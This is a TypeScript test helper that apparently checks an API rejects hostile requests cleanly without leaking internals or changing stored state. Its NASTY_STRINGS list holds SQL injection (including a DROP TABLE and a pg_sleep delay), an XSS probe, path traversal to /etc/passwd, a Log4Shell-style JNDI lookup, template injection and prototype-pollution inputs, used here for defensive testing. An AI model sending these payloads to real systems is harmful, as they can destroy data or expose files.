/**
 * Sends one hostile request and checks the answer is the documented 4xx
 * error, with the error body, and that the event's state fingerprint did not
 * move. Counts what it tried, so each file can print how many inputs it sent.
 */
import type { Pool } from 'pg';
import { stateFingerprint } from '../../db/audit';
import { errorOf, type RawReply, type RawRequest, request } from '../support/http';

export type HostileRequest = RawRequest & { method: string; path: string };

export class Prober {
  tried = 0;
  readonly codes = new Map<string, number>();

  constructor(
    private readonly base: () => string,
    private readonly pool: Pool,
  ) {}

  /** Expects `status` and `code`; the fingerprints of `eventIds` must be unchanged. */
  async rejects(eventIds: string | string[], req: HostileRequest, status: number, code: string): Promise<RawReply> {
    const ids = Array.isArray(eventIds) ? eventIds : [eventIds];
    const before = await Promise.all(ids.map((id) => stateFingerprint(this.pool, id)));
    const r = await request(this.base(), req.method, req.path, req);
    this.tried++;
    this.codes.set(code, (this.codes.get(code) ?? 0) + 1);
    const error = errorOf(r);
    expect({ input: summary(req), status: r.status, code: error?.code }).toEqual({ input: summary(req), status, code });
    expect(typeof error?.message).toBe('string');
    expect(error?.details).toEqual(expect.any(Object));
    // Nothing internal leaks into an error answer.
    expect(JSON.stringify(r.body)).not.toMatch(/at .+\.ts:\d+|node_modules|SELECT |postgres:\/\//);
    const after = await Promise.all(ids.map((id) => stateFingerprint(this.pool, id)));
    expect(after).toEqual(before);
    return r;
  }

  report(file: string): void {
    const byCode = [...this.codes.entries()]
      .sort()
      .map(([c, n]) => `${c} ${n}`)
      .join(', ');
    process.stdout.write(`hostile inputs tried (${file}): ${this.tried} [${byCode}]\n`);
  }
}

function summary(req: HostileRequest): string {
  const body = req.raw ?? (req.body === undefined ? '' : JSON.stringify(req.body));
  return `${req.method} ${req.path} ${body.length > 80 ? body.slice(0, 80) + `…(${body.length})` : body}`;
}

/** Strings that have broken other systems: injection, traversal, control and odd Unicode. */
export const NASTY_STRINGS = [
  "' OR '1'='1",
  "A-1-1'; DROP TABLE seats;--",
  '"; SELECT pg_sleep(5);--',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '%00',
  '\u0000',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '$where',
  '\u202eevil',
  '🎟️'.repeat(20),
  'A'.repeat(5000),
  '__proto__',
];
